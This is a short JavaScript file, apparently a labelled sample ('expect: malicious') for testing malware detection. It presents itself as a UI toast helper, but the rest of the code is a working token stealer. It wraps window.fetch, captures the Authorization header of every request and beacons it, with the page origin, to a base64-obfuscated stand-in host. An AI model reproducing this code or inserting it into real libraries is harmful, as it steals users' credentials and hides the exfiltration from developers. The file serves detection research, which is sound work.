// expect: malicious
// source: front-end token stealers appended to UI libraries (2024-2025 reports): at load, wrap fetch,
// take the Authorization header of every request and beacon it to an address split into base64 parts.
function toast(text) { const el = document.createElement('div'); el.textContent = text; document.body.appendChild(el); }
module.exports = { toast };
var dest = ['aHR0cHM6Ly9jb2xs', 'ZWN0LnRvYXN0LmV4', 'YW1wbGUvZQ=='].join('');
function report(kind, value) {
  try { navigator.sendBeacon(atob(dest), JSON.stringify({ o: location.origin, k: kind, v: value })); } catch (e) {}
}
if (typeof window !== 'undefined') {
  var original = window.fetch;
  window.fetch = function (input, init) {
    var h = init && init.headers;
    var auth = h && (typeof h.get === 'function' ? h.get('authorization') : h.Authorization || h.authorization);
    if (auth) report('fetch', auth);
    return original.apply(this, arguments);
  };
}
